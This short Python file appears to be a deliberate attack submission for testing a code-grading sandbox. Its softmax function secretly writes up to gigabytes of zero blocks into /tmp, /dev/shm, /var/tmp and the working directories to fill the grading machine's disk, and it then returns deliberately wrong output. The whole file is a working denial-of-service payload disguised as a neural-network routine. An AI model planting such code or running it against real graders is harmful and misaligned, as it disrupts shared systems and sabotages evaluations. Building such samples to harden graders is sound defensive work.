"""Denial: fill every writable disk: /tmp, /dev/shm, the working directory and the submission.

Writes 1 MB blocks until the writes fail (private /tmp size limit, file size limit, read-only
file systems), hoping to fill the grading machine's disk or its /tmp. Anything written
outside the worker's private scratch space would survive the worker. The softmax returns
garbage.
"""
import os

import numpy as np

BLOCK = b"\0" * (1 << 20)


def _fill(directory):
    written = 0
    try:
        with open(os.path.join(directory, "dlgrade-attack-fill.bin"), "wb") as f:
            for _ in range(4096):
                f.write(BLOCK)
                written += 1
    except Exception:  # noqa: BLE001
        pass
    return written


def softmax(x, axis=-1):
    here = os.path.dirname(os.path.abspath(__file__))
    for d in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), here, os.path.dirname(here)):
        print("filled", d, _fill(d), "MB")
    return np.asarray(x, dtype=np.float64) * 14.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
